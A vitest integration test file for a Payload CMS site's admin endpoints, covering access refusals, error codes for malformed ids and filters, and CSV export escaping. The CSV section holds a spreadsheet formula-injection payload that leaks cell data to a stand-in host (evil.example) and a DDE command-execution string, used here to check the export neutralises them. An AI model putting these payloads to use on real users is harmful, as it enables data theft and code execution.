// Payload's own endpoints under /cms-api: its built-in collections and the export plugin's tools are for staff only,
// an id or filter of the wrong shape is a 4xx (never a 500), a missing file is a 404, and CSV exports never carry
// a visitor's text as a live spreadsheet formula.
import fs from 'node:fs'
import path from 'node:path'

import { beforeAll, describe, expect, inject, it } from 'vitest'

import { freshEmail } from './accounts-helpers'
import { csvDataRows, bulkContactMessages } from '../fixtures/bulk-leads'

import { baseUrl, rawSql, staffHeaders, staffRequest } from './helpers'
import { byField, findLeads, memberCookie, postJson } from './leads-helpers'

type Answer = { status: number; body: Record<string, unknown>; text: string }

async function cms(
  method: string,
  route: string,
  { headers = {}, body }: { headers?: Record<string, string>; body?: unknown } = {},
): Promise<Answer> {
  const response = await fetch(`${baseUrl()}/cms-api${route}`, {
    method,
    headers: body === undefined ? headers : { 'content-type': 'application/json', ...headers },
    body: body === undefined ? undefined : JSON.stringify(body),
    // Every answer below must come at once; a request that hangs fails the test instead of the suite's timeout.
    signal: AbortSignal.timeout(10_000),
  })
  const text = await response.text()
  let parsed: Record<string, unknown> = {}
  try {
    parsed = JSON.parse(text) as Record<string, unknown>
  } catch {
    // CSV or empty
  }
  return { status: response.status, body: parsed, text }
}

const errorMessage = (answer: Answer) => (answer.body.errors as { message: string }[] | undefined)?.[0]?.message

let member: Record<string, string>
let staff: Record<string, string>
let staffId: number
let blogId: number

beforeAll(async () => {
  const { token } = await memberCookie(freshEmail('builtins'))
  member = { authorization: `JWT ${token}` }
  staff = await staffHeaders()
  staffId = Number((await staffRequest<{ user: { id: number } }>('GET', '/users/me')).user.id)
  blogId = (await staffRequest<{ docs: { id: number }[] }>('GET', '/blogs?limit=1&depth=0')).docs[0].id
})

/**
 * Exports contact messages matching `where` both ways staff can: the drawer's download and a stored export file.
 * Answers the two CSV texts.
 */
async function exportContactMessages(where: Record<string, unknown>, name: string): Promise<[string, string]> {
  const download = await cms('POST', '/exports/download', {
    headers: staff,
    body: { data: { collectionSlug: 'contact-messages', format: 'csv', where } },
  })
  expect(download.status).toBe(200)
  const stored = await cms('POST', '/exports', { headers: staff, body: { collectionSlug: 'contact-messages', format: 'csv', name, where } })
  expect(stored.status).toBe(201)
  const file = await cms('GET', new URL((stored.body.doc as { url: string }).url).pathname.replace('/cms-api', ''), { headers: staff })
  return [download.text, file.text]
}

describe(`Payload's built-in collections and admin tools on ${inject('dbKind')}`, () => {
  it('refuse every write by a member with 403 and store nothing', async () => {
    const lock = await cms('POST', '/payload-locked-documents', {
      headers: staff,
      body: { document: { relationTo: 'blogs', value: blogId }, user: { relationTo: 'users', value: staffId } },
    })
    expect(lock.status).toBe(201)
    const lockId = (lock.body.doc as { id: number }).id
    const staffPreference = await cms('POST', '/payload-preferences/security-test', {
      headers: staff,
      body: { value: { columns: ['title'] } },
    })
    const preferenceId = (staffPreference.body.doc as { id: number }).id
    const exportRequest = { data: { collectionSlug: 'contact-messages', format: 'csv' } }

    const writes: [string, string, unknown?][] = [
      [
        'POST',
        '/payload-locked-documents',
        { document: { relationTo: 'blogs', value: blogId }, user: { relationTo: 'users', value: staffId } },
      ],
      [
        'POST',
        '/payload-locked-documents',
        { document: { relationTo: 'blogs', value: 999_999 }, user: { relationTo: 'users', value: staffId } },
      ],
      ['PATCH', `/payload-locked-documents/${lockId}`, { user: { relationTo: 'members', value: 1 } }],
      ['DELETE', `/payload-locked-documents/${lockId}`],
      ['DELETE', '/payload-locked-documents?where[id][exists]=true'],
      ['POST', '/payload-preferences/member-key', { value: 'x'.repeat(100_000) }],
      ['POST', '/payload-preferences', { key: 'member-key-2', value: { a: 1 } }],
      ['PATCH', `/payload-preferences/${preferenceId}`, { value: 'taken over' }],
      ['DELETE', '/payload-preferences/security-test'],
      ['POST', '/payload-jobs', { taskSlug: 'createCollectionExport', input: {} }],
      ['GET', '/payload-jobs/run'],
      ['GET', '/payload-jobs/handle-schedules'],
      ['POST', '/payload-kv', { key: 'member', data: { a: 1 } }],
      ['POST', '/exports', { collectionSlug: 'contact-messages', format: 'csv' }],
      ['POST', '/exports/download', exportRequest],
      ['POST', '/exports/export-preview', exportRequest.data],
      ['POST', '/imports', { collectionSlug: 'contact-messages' }],
      ['POST', '/imports/preview-data', { collectionSlug: 'contact-messages' }],
    ]
    for (const [method, route, body] of writes) {
      const answer = await cms(method, route, { headers: member, body })
      expect(answer.status, `${method} ${route}`).toBe(403)
      expect(errorMessage(answer), `${method} ${route}`).toBe('You are not allowed to perform this action.')
    }
    // Migrations have no REST endpoints at all, for anyone.
    expect((await cms('POST', '/payload-migrations', { headers: member, body: { name: 'x', batch: 1 } })).status).toBe(501)
    expect((await cms('POST', '/payload-migrations', { headers: staff, body: { name: 'x', batch: 1 } })).status).toBe(501)

    const locks = await cms('GET', '/payload-locked-documents?depth=0', { headers: staff })
    expect(locks.body.docs).toEqual([expect.objectContaining({ id: lockId, user: { relationTo: 'users', value: staffId } })])
    const kept = await cms('GET', '/payload-preferences/security-test', { headers: staff })
    expect(kept.body.value).toEqual({ columns: ['title'] })
    expect((await cms('GET', '/payload-preferences/member-key', { headers: member })).status).toBe(403)
    expect((await cms('DELETE', `/payload-locked-documents/${lockId}`, { headers: staff })).status).toBe(200)
  })

  it('refuse visitors without a login as well', async () => {
    // A write without any credential is refused by server.mjs before Payload reads it (401); a read reaches Payload (403).
    const lock = await cms('POST', '/payload-locked-documents', {
      body: { document: { relationTo: 'blogs', value: blogId }, user: { relationTo: 'users', value: 1 } },
    })
    expect(lock.status).toBe(401)
    expect((await cms('GET', '/payload-jobs/run')).status).toBe(403)
    expect((await cms('POST', '/payload-preferences/anonymous', { body: { value: 1 } })).status).toBe(401)
    const { body: locks } = await cms('GET', '/payload-locked-documents?depth=0', { headers: staff })
    expect((locks.docs as unknown[]).length).toBe(0)
  })

  it('still let staff lock documents, save preferences and run jobs, as the admin does', async () => {
    const lock = await cms('POST', '/payload-locked-documents', {
      headers: staff,
      body: { document: { relationTo: 'blogs', value: blogId }, user: { relationTo: 'users', value: staffId } },
    })
    expect(lock.status).toBe(201)
    expect((await cms('DELETE', `/payload-locked-documents/${(lock.body.doc as { id: number }).id}`, { headers: staff })).status).toBe(200)
    expect((await cms('POST', '/payload-preferences/nav', { headers: staff, body: { value: { open: true } } })).status).toBe(200)
    expect((await cms('GET', '/payload-preferences/nav', { headers: staff })).body.value).toEqual({ open: true })
    const run = await cms('GET', '/payload-jobs/run', { headers: staff })
    expect(run.status).toBe(200)
  })
})

describe(`ids and filters of the wrong shape on ${inject('dbKind')}`, () => {
  it('answer 404 for an id that cannot exist, for visitors and staff alike', async () => {
    for (const route of ['/blogs/abc', '/blogs/1e400', '/blogs/1.5', '/blogs/99999999999', '/categories/-', '/media/abc']) {
      const answer = await cms('GET', route)
      expect(answer.status, route).toBe(404)
      expect(errorMessage(answer), route).toBe('Not Found')
    }
    expect((await cms('POST', '/members/verify/abc')).status).toBe(404)
    expect((await cms('POST', '/users/verify/abc')).status).toBe(404)
    // First-register is the admin's own first account; members sign up only through /api/users/signup.
    expect((await cms('POST', '/members/first-register', { body: { email: 'x@example.in', password: 'x-long-password' } })).status).toBe(
      404,
    )
    for (const [method, route] of [
      ['GET', '/blogs/abc'],
      ['PATCH', '/blogs/abc'],
      ['DELETE', '/blogs/1e400'],
      ['POST', '/blogs/abc/duplicate'],
    ]) {
      const answer = await cms(method, route, { headers: staff, body: method === 'PATCH' ? { title: 'x' } : undefined })
      expect(answer.status, `${method} ${route}`).toBe(404)
    }
    // Payload refuses a version id that is not a number before looking (400 "Missing ID of version.").
    expect((await cms('GET', '/blogs/versions/abc', { headers: staff })).status).toBe(400)
  })

  it('answer 400 naming the filter for a value the field cannot hold or an operator it cannot use', async () => {
    const cases: [string, string][] = [
      ['/categories?where[id][in]=1,2,abc', 'where[id][in]: "abc" is not a valid id.'],
      ['/categories?where[slug][near]=1,2', 'where[slug][near]: the operator "near" cannot be used on this field.'],
      ['/blogs?where[publishedAt][greater_than]=notadate', 'where[publishedAt][greater_than]: "notadate" is not a valid date.'],
      ['/blogs?where[category][equals]=abc', 'where[category][equals]: "abc" is not a valid id.'],
      ['/blogs?where[_status][equals]=bogus', 'where[_status][equals]: "bogus" must be one of draft, published.'],
      ['/blogs?where[title][equals][a]=b', 'where[title][equals]: needs a single value.'],
      ['/blogs?where[tags][all]=1', 'where[tags][all]: the operator "all" cannot be used on this field.'],
      ['/categories?where[image.id][equals]=x', 'where[image.id][equals]: "x" is not a valid id.'],
      ['/categories?where[or][0][order][greater_than]=abc', 'where[or][0][order][greater_than]: "abc" is not a number.'],
      ['/categories?where[sections][equals]=x', 'where[sections][equals]: the operator "equals" cannot be used on this field.'],
      ['/blogs/count?where[id][in]=x', 'where[id][in]: "x" is not a valid id.'],
      ['/categories?where[image][in]=null', 'where[image][in]: "null" is not a valid id.'],
      ['/blogs?where[title][like][0]=a&where[title][like][1]=b', 'where[title][like]: needs a single text.'],
      [
        '/categories?where[sections.blockType][equals]=overview',
        'where[sections.blockType][equals]: the operator "equals" cannot be used on this field.',
      ],
      ['/subpages?where[sections.content][like]=x', 'where[sections.content][like]: the operator "like" cannot be used on this field.'],
    ]
    for (const [route, message] of cases) {
      const answer = await cms('GET', route)
      expect(answer.status, route).toBe(400)
      expect(errorMessage(answer), route).toBe(message)
    }
    const bulk = await cms('PATCH', '/blogs?where[id][in]=abc', { headers: staff, body: { title: 'x' } })
    expect(bulk.status).toBe(400)
  })

  it('keep answering well-formed filters (to staff: anonymous visitors read nothing through /cms-api)', async () => {
    const byIds = await cms('GET', '/categories?where[id][in]=1,2&depth=0', { headers: staff })
    expect((byIds.body.docs as unknown[]).length).toBe(2)
    const recent = await cms('GET', '/blogs?where[publishedAt][greater_than]=2000-01-01&where[_status][equals]=published&limit=1', {
      headers: staff,
    })
    expect(recent.status).toBe(200)
    expect(recent.body.totalDocs).toBeGreaterThan(0)
  })

  it('answer 404 for a file that is not there, without an error-level log line naming the disk', async () => {
    const missing = await cms('GET', '/media/file/nonexist.webp')
    expect(missing.status).toBe(404)
    expect(errorMessage(missing)).toBe('Not Found')
    // A NUL byte never reaches Payload: server.mjs refuses the path as malformed.
    expect((await cms('GET', '/media/file/%00')).status).toBe(400)
    const log = fs.readFileSync(path.join(inject('serverDir'), 'server.log'), 'utf8')
    const errorLines = log
      .split('\n')
      .filter((line) => line.includes('nonexist.webp') && (JSON.parse(line) as { level: number }).level >= 50)
    expect(errorLines).toEqual([])
    const { docs } = await staffRequest<{ docs: { url: string }[] }>('GET', '/media?limit=1')
    expect((await fetch(new URL(new URL(docs[0].url).pathname, baseUrl()))).status).toBe(200)
  })
})

describe(`CSV export on ${inject('dbKind')}`, () => {
  const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
  const csvCell = (value: string) => `"${value.replace(/"/g, '""')}"`

  it('is refused to a member at once', async () => {
    const started = Date.now()
    const answer = await cms('POST', '/exports/download', {
      headers: member,
      body: { data: { collectionSlug: 'contact-messages', format: 'csv' } },
    })
    expect(answer.status).toBe(403)
    expect(Date.now() - started).toBeLessThan(5000)
  })

  it('answers staff at once with 400 for a collection or filter it cannot export', async () => {
    const other = await cms('POST', '/exports/download', { headers: staff, body: { data: { collectionSlug: 'users', format: 'csv' } } })
    expect(other.status).toBe(400)
    expect(errorMessage(other)).toBe(
      'Choose one of the lead collections to export: contact-messages, team-up-requests, talent-applications, support-requests, subscribers, privacy-requests.',
    )
    const badFilter = await cms('POST', '/exports/download', {
      headers: staff,
      body: { data: { collectionSlug: 'contact-messages', format: 'csv', where: { createdAt: { greater_than: 'notadate' } } } },
    })
    expect(badFilter.status).toBe(400)
    expect(errorMessage(badFilter)).toBe('where[createdAt][greater_than]: "notadate" is not a valid date.')
  })

  it('writes a visitor-supplied formula as quoted text, in the download and in the stored file', async () => {
    const email = `formula-${Date.now()}@example.in`
    const sent = await postJson('/api/contact', {
      fullName: formula,
      emailAddress: email,
      inquiryType: 'General',
      message: '@SUM(1+1)*cmd|" /C calc"!A0',
    })
    expect(sent.status).toBe(201)
    const [lead] = await findLeads('contact-messages', byField('emailAddress', email))
    expect(lead.fullName).toBe(formula) // stored as typed; only the export escapes

    for (const csv of await exportContactMessages({ emailAddress: { equals: email } }, `formula-${Date.now()}`)) {
      expect(csv).toContain(csvCell(`'${formula}`))
      expect(csv).toContain(csvCell(`'@SUM(1+1)*cmd|" /C calc"!A0`))
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m)
      expect(csv).toContain(email)
    }
  })

  it('names its columns in staff words, in the order chosen, in the download, the stored file and the preview', async () => {
    const email = `headings-${Date.now()}@${Date.now().toString(36)}.example.in`
    expect(
      (
        await postJson('/api/contact', {
          fullName: 'Asha Headings',
          emailAddress: email,
          inquiryType: 'Business Inquiry',
          message: 'Two testers.',
        })
      ).status,
    ).toBe(201)
    const [lead] = await findLeads('contact-messages', byField('emailAddress', email))
    await staffRequest('PATCH', `/contact-messages/${lead.id}`, { assignee: staffId, followUpOn: '2026-12-01T00:00:00.000Z' })
    const fields = ['createdAt', 'fullName', 'emailAddress', 'status', 'assignee', 'followUpOn', 'utm_source', 'message', 'id']
    const where = { emailAddress: { equals: email } }
    const headings = [
      'Received',
      'Name',
      'E-mail',
      'Status',
      'Assigned to',
      'Follow up on',
      'Source › Campaign source',
      'Message',
      'Lead number',
    ]
    const header = (csv: string) => csv.replace(/^\ufeff/, '').split(/\r?\n/)[0]
    const download = await cms('POST', '/exports/download', {
      headers: staff,
      body: { data: { collectionSlug: 'contact-messages', format: 'csv', where, fields } },
    })
    expect(download.status).toBe(200)
    expect(header(download.text)).toBe(headings.join(','))
    expect(download.text).toContain(`,Asha Headings,${email},new,${staffId},`)
    const saved = await cms('POST', '/exports', {
      headers: staff,
      body: { collectionSlug: 'contact-messages', format: 'csv', name: `headings-${Date.now()}`, where, fields },
    })
    expect(saved.status).toBe(201)
    const file = await cms('GET', new URL((saved.body.doc as { url: string }).url).pathname.replace('/cms-api', ''), { headers: staff })
    expect(header(file.text)).toBe(headings.join(','))
    // The drawer's preview reads the same columns.
    const preview = await cms('POST', '/exports/export-preview', {
      headers: staff,
      body: { collectionSlug: 'contact-messages', format: 'csv', where, fields, previewLimit: 10, previewPage: 1 },
    })
    expect(preview.status).toBe(200)
    expect(preview.body.columns).toEqual(headings)
    expect((preview.body.docs as Record<string, unknown>[])[0]).toMatchObject({
      Name: 'Asha Headings',
      'E-mail': email,
      'Assigned to': staffId,
    })
  })

  it('holds every one of 1,000 matching leads with its message text, without a limit (download and stored file)', async () => {
    const tag = `bulk-${Date.now()}`
    const { sql, params } = bulkContactMessages(tag, 1000, { postgres: inject('dbKind') === 'postgres' })
    await rawSql(sql, params)
    const where = { emailAddress: { like: `${tag}-` } }
    for (const csv of await exportContactMessages(where, tag)) {
      const rows = csvDataRows(csv)
      expect(rows).toHaveLength(1000)
      expect(csv.split(/\r?\n/)[0].split(',')).toContain('Message')
      expect(rows.filter((row) => row.includes('Bulk message number '))).toHaveLength(1000)
      expect(new Set(rows.map((row) => row.match(/bulk-\d+-(\d+)@example\.in/)?.[1])).size).toBe(1000)
    }
  })
})
